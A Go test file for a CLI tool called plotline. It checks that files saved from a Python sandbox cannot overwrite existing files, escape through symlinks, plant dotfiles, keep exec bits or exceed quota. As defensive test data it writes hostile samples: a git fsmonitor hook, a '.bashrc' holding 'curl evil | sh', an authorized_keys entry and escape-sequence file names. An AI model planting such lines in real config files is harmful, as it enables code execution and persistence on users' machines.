package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"plotline/app/modeltest"
	"plotline/interpreter"
)

// openOut opens a fresh output folder with the given quota.
func openOut(t *testing.T, quota int64) (*outFolder, string) {
	t.Helper()
	dir := t.TempDir()
	o, err := openOutFolder(dir, quota)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { o.Close() })
	return o, dir
}

// body is a save source of the given text; opened counts its opens.
func body(text string, opened *int) func() (io.ReadCloser, int64, error) {
	return func() (io.ReadCloser, int64, error) {
		if opened != nil {
			*opened++
		}
		return io.NopCloser(strings.NewReader(text)), int64(len(text)), nil
	}
}

// tree lists everything under dir (slash-separated, links not followed).
func tree(t *testing.T, dir string) []string {
	t.Helper()
	var out []string
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			t.Fatal(err)
		}
		if p != dir {
			rel, _ := filepath.Rel(dir, p)
			out = append(out, filepath.ToSlash(rel))
		}
		return nil
	})
	sort.Strings(out)
	return out
}

func readFile(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestCopyOutDedupesTakenNames(t *testing.T) {
	o, dir := openOut(t, 1<<20)
	other := t.TempDir()
	write(t, dir, "chart.png", "old chart")
	outside := write(t, other, "notes.txt", "outside")
	os.Symlink(outside, filepath.Join(dir, "notes.txt"))                        // a link to a file
	os.Symlink(filepath.Join(other, "planted"), filepath.Join(dir, "data.csv")) // a dangling link

	for _, c := range []struct{ rel, want string }{
		{"chart.png", "chart (1).png"},
		{"chart.png", "chart (2).png"},
		{"notes.txt", "notes (1).txt"},
		{"data.csv", "data (1).csv"},
	} {
		p, err := o.save(c.rel, body("new "+c.want, nil))
		if err != nil || p != filepath.Join(dir, c.want) {
			t.Fatalf("save %s = %q, %v; want %s", c.rel, p, err, c.want)
		}
		if got := readFile(t, p); got != "new "+c.want {
			t.Fatalf("%s holds %q", c.want, got)
		}
	}
	if readFile(t, filepath.Join(dir, "chart.png")) != "old chart" || readFile(t, outside) != "outside" {
		t.Fatal("an existing file was changed")
	}
	if _, err := os.Lstat(filepath.Join(other, "planted")); err == nil {
		t.Fatal("the dangling link was followed")
	}
}

func TestCopyOutSkipsDotPaths(t *testing.T) {
	o, dir := openOut(t, 1<<20)
	os.Mkdir(filepath.Join(dir, ".git"), 0o755)
	write(t, dir, ".git/config", "mine")
	opened := 0
	for _, rel := range []string{".git/config", ".bashrc", "a/.ssh/authorized_keys", ".config/x.csv", "./x.csv", "a/../b.csv", "../x.csv", "/etc/x", "a//b", "a\\b"} {
		if _, err := o.save(rel, body("evil", &opened)); err == nil {
			t.Errorf("%q was saved", rel)
		} else if !strings.Contains(err.Error(), fmt.Sprintf("%q", rel)) {
			t.Errorf("error %q does not name %q", err, rel)
		}
	}
	if opened != 0 {
		t.Fatalf("a refused file was opened %d times", opened)
	}
	if got := tree(t, dir); strings.Join(got, " ") != ".git .git/config" {
		t.Fatalf("output folder holds %q", got)
	}
	if readFile(t, filepath.Join(dir, ".git/config")) != "mine" {
		t.Fatal(".git/config changed")
	}
}

func TestCopyOutRefusesLinkedSubfolder(t *testing.T) {
	o, dir := openOut(t, 1<<20)
	other := t.TempDir()
	os.Symlink(other, filepath.Join(dir, "sub")) // leaves the folder
	os.Mkdir(filepath.Join(dir, "real"), 0o755)
	os.Symlink("real", filepath.Join(dir, "inside")) // stays inside it
	write(t, dir, "file", "a file where a folder would go")
	for _, rel := range []string{"sub/x.csv", "inside/x.csv", "file/x.csv"} {
		if _, err := o.save(rel, body("x", nil)); err == nil || !strings.Contains(err.Error(), "not a folder") {
			t.Errorf("save %s: %v", rel, err)
		}
	}
	if got := tree(t, other); len(got) != 0 {
		t.Fatalf("the link's target got %q", got)
	}
	if got := tree(t, filepath.Join(dir, "real")); len(got) != 0 {
		t.Fatalf("real/ got %q", got)
	}
	// A real folder is used, and new ones are made.
	for _, rel := range []string{"real/x.csv", "new/deeper/x.csv"} {
		if p, err := o.save(rel, body("x", nil)); err != nil || p != filepath.Join(dir, filepath.FromSlash(rel)) {
			t.Fatalf("save %s = %q, %v", rel, p, err)
		}
	}
}

func TestCopyOutRefusesControlCharacterNames(t *testing.T) {
	o, dir := openOut(t, 1<<20)
	opened := 0
	for _, rel := range []string{"a\nb.csv", "\x1b[31mred.csv", "sub/\x1b]0;title\a.csv", "tab\t.csv", "del\x7f.csv", "c1\u0085.csv", "\xff.csv", "nul\x00.csv"} {
		_, err := o.save(rel, body("x", &opened))
		if err == nil {
			t.Errorf("%q was saved", rel)
			continue
		}
		msg := err.Error()
		if !strings.Contains(msg, fmt.Sprintf("%q", rel)) || strings.ContainsAny(msg, "\n\x1b\a\x7f\x00") {
			t.Errorf("error %q should name %s, quoted", msg, fmt.Sprintf("%q", rel))
		}
	}
	if opened != 0 || len(tree(t, dir)) != 0 {
		t.Fatalf("opened %d, wrote %q", opened, tree(t, dir))
	}
}

func TestCopyOutWritesNoSetIDOrExecBits(t *testing.T) {
	o, dir := openOut(t, 1<<20)
	src := write(t, t.TempDir(), "tool", "#!/bin/sh\n")
	os.Chmod(src, 0o6755)
	p, err := o.save("tool", func() (io.ReadCloser, int64, error) { return fileSource(os.Open(src)) })
	if err != nil {
		t.Fatal(err)
	}
	fi, err := os.Lstat(p)
	if err != nil || p != filepath.Join(dir, "tool") {
		t.Fatal(p, err)
	}
	if m := fi.Mode(); m&(fs.ModeSetuid|fs.ModeSetgid|0o111) != 0 || m.Perm()&^0o644 != 0 {
		t.Fatalf("mode %v", m)
	}
}

func TestCopyOutSparseFileIsCappedAtQuota(t *testing.T) {
	const quota = 1 << 20
	o, dir := openOut(t, quota)
	src := filepath.Join(t.TempDir(), "big.bin")
	if err := os.WriteFile(src, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(src, 2<<30); err != nil { // 2 GiB of holes
		t.Fatal(err)
	}
	_, err := o.save("big.bin", func() (io.ReadCloser, int64, error) { return fileSource(os.Open(src)) })
	if err == nil || !strings.Contains(err.Error(), "quota") {
		t.Fatalf("err = %v", err)
	}
	if got := tree(t, dir); len(got) != 0 {
		t.Fatalf("wrote %q", got)
	}
	// The quota holds across the files of one save, too.
	if _, err := o.save("a.bin", body(strings.Repeat("a", quota-10), nil)); err != nil {
		t.Fatal(err)
	}
	if _, err := o.save("b.bin", body(strings.Repeat("b", 11), nil)); err == nil {
		t.Fatal("saved past the quota")
	}
	if got := tree(t, dir); strings.Join(got, " ") != "a.bin" {
		t.Fatalf("wrote %q", got)
	}
}

func TestCopyOutStopsWhenFileGrows(t *testing.T) {
	o, dir := openOut(t, 1<<20)
	_, err := o.save("grows.csv", func() (io.ReadCloser, int64, error) {
		return io.NopCloser(strings.NewReader("0123456789 and more written after it was opened")), 10, nil
	})
	if err == nil || !strings.Contains(err.Error(), "grew past the 10 bytes") {
		t.Fatalf("err = %v", err)
	}
	if got := tree(t, dir); len(got) != 0 {
		t.Fatalf("left %q", got)
	}
}

// execOut runs one cell with exec --json --out and returns the cell's JSON
// and stderr.
func execOut(t *testing.T, out, cell string) (cellJSON, string) {
	t.Helper()
	code, stdout, stderr := run(t, cell, "exec", "--json", "--out", out, "-")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	var c cellJSON
	if err := json.Unmarshal([]byte(stdout), &c); err != nil {
		t.Fatalf("stdout %q: %v", stdout, err)
	}
	if c.Error != nil {
		t.Fatalf("cell failed: %+v", c.Error)
	}
	return c, stderr
}

func TestExecCopyOutKeepsExistingChart(t *testing.T) {
	out := t.TempDir()
	write(t, out, "chart.png", "the user's chart")
	write(t, out, "cell1-image1.png", "the user's image")
	c, stderr := execOut(t, out, "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.savefig('chart.png')\n")
	if readFile(t, filepath.Join(out, "chart.png")) != "the user's chart" ||
		readFile(t, filepath.Join(out, "cell1-image1.png")) != "the user's image" {
		t.Fatal("an existing file was replaced")
	}
	newChart, newImage := filepath.Join(out, "chart (1).png"), filepath.Join(out, "cell1-image1 (1).png")
	if len(c.Files) != 1 || c.Files[0] != newChart || len(c.Images) != 1 || c.Images[0] != newImage {
		t.Fatalf("files %q, images %q (stderr %q)", c.Files, c.Images, stderr)
	}
	for _, p := range []string{newChart, newImage} {
		if !strings.HasPrefix(readFile(t, p), "\x89PNG") {
			t.Fatalf("%s is not a PNG", p)
		}
	}
	if got := tree(t, out); len(got) != 4 {
		t.Fatalf("output folder holds %q", got)
	}
}

func TestExecCopyOutSkipsGitConfigAndDotFiles(t *testing.T) {
	out := t.TempDir()
	os.Mkdir(filepath.Join(out, ".git"), 0o755)
	write(t, out, ".git/config", "[core]\n")
	c, stderr := execOut(t, out, `import os
os.makedirs(".git", exist_ok=True)
open(".git/config", "w").write("[core]\n\tfsmonitor = touch /tmp/pwned\n")
open(".bashrc", "w").write("curl evil | sh\n")
os.makedirs("a/.ssh")
open("a/.ssh/authorized_keys", "w").write("ssh-ed25519 AAAA\n")
open("ok.csv", "w").write("a\n1\n")
`)
	if readFile(t, filepath.Join(out, ".git/config")) != "[core]\n" {
		t.Fatal(".git/config was changed")
	}
	if got := strings.Join(tree(t, out), " "); got != ".git .git/config ok.csv" {
		t.Fatalf("output folder holds %q", got)
	}
	if len(c.Files) != 1 || c.Files[0] != filepath.Join(out, "ok.csv") {
		t.Fatalf("files %q", c.Files)
	}
	for _, rel := range []string{".git/config", ".bashrc", "a/.ssh/authorized_keys"} {
		if !strings.Contains(stderr, `did not save "`+rel+`": hidden files`) {
			t.Errorf("no warning for %s in %q", rel, stderr)
		}
	}
	if n := strings.Count(stderr, "\n"); n != 3 {
		t.Errorf("want 3 warning lines, got %d: %q", n, stderr)
	}
}

func TestExecCopyOutDoesNotWriteThroughLinkedSubfolder(t *testing.T) {
	out, target := t.TempDir(), t.TempDir()
	if err := os.Symlink(target, filepath.Join(out, "sub")); err != nil {
		t.Fatal(err)
	}
	c, stderr := execOut(t, out, "import os\nos.makedirs('sub')\nopen('sub/x.csv', 'w').write('a\\n1\\n')\n")
	if got := tree(t, target); len(got) != 0 {
		t.Fatalf("the link's target got %q", got)
	}
	if got := tree(t, out); strings.Join(got, " ") != "sub" || len(c.Files) != 0 {
		t.Fatalf("output folder holds %q, files %q", got, c.Files)
	}
	if !strings.Contains(stderr, `did not save "sub/x.csv": sub in `+out+` is a link or a file, not a folder`) {
		t.Fatalf("stderr %q", stderr)
	}
}

func TestExecCopyOutRefusesControlCharacterNames(t *testing.T) {
	out := t.TempDir()
	c, stderr := execOut(t, out, `open("a\nb.csv", "w").write("x")
open("\x1b[31mred.csv", "w").write("x")
open(b"\xff.csv", "w").write("x")
`)
	if got := tree(t, out); len(got) != 0 || len(c.Files) != 0 {
		t.Fatalf("output folder holds %q, files %q", got, c.Files)
	}
	for _, w := range []string{`"a\nb.csv": the name has control characters`, `"\x1b[31mred.csv": the name has control characters`, `"\xff.csv": the name is not valid UTF-8`} {
		if !strings.Contains(stderr, w) {
			t.Errorf("stderr %q lacks %s", stderr, w)
		}
	}
	if strings.ContainsRune(stderr, '\x1b') || strings.Contains(stderr, "\xff") || strings.Count(stderr, "\n") != 3 {
		t.Errorf("warnings not one quoted line each: %q", stderr)
	}
}

// A cell cannot make a file past the work folder's quota (the sandbox's
// file-size limit is never above it), but a sparse file at the quota
// costs the disk nothing and would be written out in full. Saving caps
// each file at its size when opened and the whole at the quota; a cap
// below the session's stands in for a file past it. exec has no quota
// flag, so this runs the session itself.
func TestExecCopyOutSparseFileStaysUnderQuota(t *testing.T) {
	const quota = 1 << 20
	ctx := context.Background()
	py, _, err := interpreter.Discover(ctx, false)
	if err != nil {
		t.Skip(err)
	}
	mgr, err := interpreter.NewManager(interpreter.Config{Python: py, Root: t.TempDir(), PoolSize: -1,
		Limits: interpreter.Limits{DiskQuota: quota}})
	if err != nil {
		t.Fatal(err)
	}
	defer mgr.Close()
	sess, err := mgr.NewSession(ctx)
	if err != nil {
		t.Fatal(err)
	}
	defer sess.Close()
	r, err := sess.Exec(ctx, `import os
open("big.bin", "wb").close()
try:
    os.truncate("big.bin", 2 << 30)
    big = "made"
except OSError:
    big = "refused"
os.truncate(open("sparse.bin", "wb").name, 1 << 20)
big
`)
	if err != nil || r.Error != nil {
		t.Fatalf("%v %+v", err, r.Error)
	}
	if *r.Value != "'refused'" || strings.Join(r.Files, " ") != "big.bin sparse.bin" {
		t.Fatalf("the 2 GiB file was %s; files %q", *r.Value, r.Files)
	}
	sizes := func(dir string) string {
		var out []string
		for _, name := range tree(t, dir) {
			fi, _ := os.Stat(filepath.Join(dir, name))
			out = append(out, fmt.Sprintf("%s:%d", name, fi.Size()))
		}
		return strings.Join(out, " ")
	}

	out := t.TempDir()
	var warn bytes.Buffer
	if _, files := saveOutputs(sess, r, out, quota, 1, &warn); len(files) != 2 || warn.Len() != 0 {
		t.Fatalf("saved %q, warnings %q", files, warn.String())
	}
	if got := sizes(out); got != "big.bin:0 sparse.bin:1048576" {
		t.Fatalf("saved %s", got)
	}

	out = t.TempDir()
	_, files := saveOutputs(sess, r, out, quota/2, 1, &warn)
	if got := sizes(out); got != "big.bin:0" || len(files) != 1 {
		t.Fatalf("saved %s (%q)", got, files)
	}
	if w := warn.String(); w != "plotline exec: cell 1: did not save \"sparse.bin\": its 1048576 bytes are more than the 524288 bytes left of the work folder's quota\n" {
		t.Fatalf("warnings %q", w)
	}
}

// askOut runs ask --json --out on a scripted model and returns what it
// saved and stderr.
func askOut(t *testing.T, out string, turns ...modeltest.Turn) ([]savedFile, string) {
	t.Helper()
	askEnv(t, turns...)
	code, stdout, stderr := run(t, "", "ask", "--json", "--out", out, "Go")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	var res askJSON
	if err := json.Unmarshal([]byte(stdout), &res); err != nil {
		t.Fatalf("stdout %q: %v", stdout, err)
	}
	return res.Files, stderr
}

func TestAskCopyOutKeepsExistingChart(t *testing.T) {
	out := t.TempDir()
	write(t, out, "chart.png", "the user's chart")
	files, stderr := askOut(t, out,
		code("import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.savefig('chart.png')\nplt.close()"),
		modeltest.Turn{Text: "The chart: sandbox:/mnt/data/chart.png"})
	if readFile(t, filepath.Join(out, "chart.png")) != "the user's chart" {
		t.Fatal("chart.png was replaced")
	}
	want := filepath.Join(out, "chart (1).png")
	if len(files) != 1 || files[0].Path != want || files[0].Filename != "/mnt/data/chart.png" {
		t.Fatalf("files %+v (stderr %q)", files, stderr)
	}
	if !strings.HasPrefix(readFile(t, want), "\x89PNG") {
		t.Fatal("chart (1).png is not a PNG")
	}
}

func TestAskCopyOutSkipsGitConfigAndDotFiles(t *testing.T) {
	out := t.TempDir()
	os.Mkdir(filepath.Join(out, ".git"), 0o755)
	write(t, out, ".git/config", "[core]\n")
	files, stderr := askOut(t, out,
		code(`import os
os.makedirs(".git", exist_ok=True)
open(".git/config", "w").write("[core]\n\tfsmonitor = touch /tmp/pwned\n")
open(".bashrc", "w").write("curl evil | sh\n")
open("ok.csv", "w").write("a\n1\n")`),
		modeltest.Turn{Text: "Files: sandbox:/mnt/data/.git/config sandbox:/mnt/data/.bashrc sandbox:/mnt/data/ok.csv"})
	if readFile(t, filepath.Join(out, ".git/config")) != "[core]\n" {
		t.Fatal(".git/config was changed")
	}
	if got := strings.Join(tree(t, out), " "); got != ".git .git/config ok.csv" {
		t.Fatalf("output folder holds %q (stderr %q)", got, stderr)
	}
	if len(files) != 1 || files[0].Path != filepath.Join(out, "ok.csv") {
		t.Fatalf("files %+v", files)
	}
	for _, rel := range []string{".git/config", ".bashrc"} {
		if !strings.Contains(stderr, `plotline ask: did not save "`+rel+`": hidden files`) {
			t.Errorf("no warning for %s in %q", rel, stderr)
		}
	}
}

func TestAskCopyOutDoesNotWriteThroughLinkedSubfolder(t *testing.T) {
	out, target := t.TempDir(), t.TempDir()
	if err := os.Symlink(target, filepath.Join(out, "sub")); err != nil {
		t.Fatal(err)
	}
	files, stderr := askOut(t, out,
		code("import os\nos.makedirs('sub')\nopen('sub/x.csv', 'w').write('a\\n1\\n')"),
		modeltest.Turn{Text: "The table: sandbox:/mnt/data/sub/x.csv"})
	if got := tree(t, target); len(got) != 0 {
		t.Fatalf("the link's target got %q", got)
	}
	if got := tree(t, out); strings.Join(got, " ") != "sub" || len(files) != 0 {
		t.Fatalf("output folder holds %q, files %+v", got, files)
	}
	if !strings.Contains(stderr, `did not save "sub/x.csv": sub in `+out+` is a link or a file, not a folder`) {
		t.Fatalf("stderr %q", stderr)
	}
}

func TestAskCopyOutRefusesControlCharacterNames(t *testing.T) {
	out := t.TempDir()
	files, stderr := askOut(t, out,
		code(`open("\x1b[31mred.csv", "w").write("x")`),
		modeltest.Turn{Text: "The table: sandbox:/mnt/data/\x1b[31mred.csv"})
	if got := tree(t, out); len(got) != 0 || len(files) != 0 {
		t.Fatalf("output folder holds %q, files %+v", got, files)
	}
	if !strings.Contains(stderr, `plotline ask: did not save "\x1b[31mred.csv": the name has control characters`) ||
		strings.Contains(stderr, "\x1b") {
		t.Fatalf("stderr %q", stderr)
	}
}
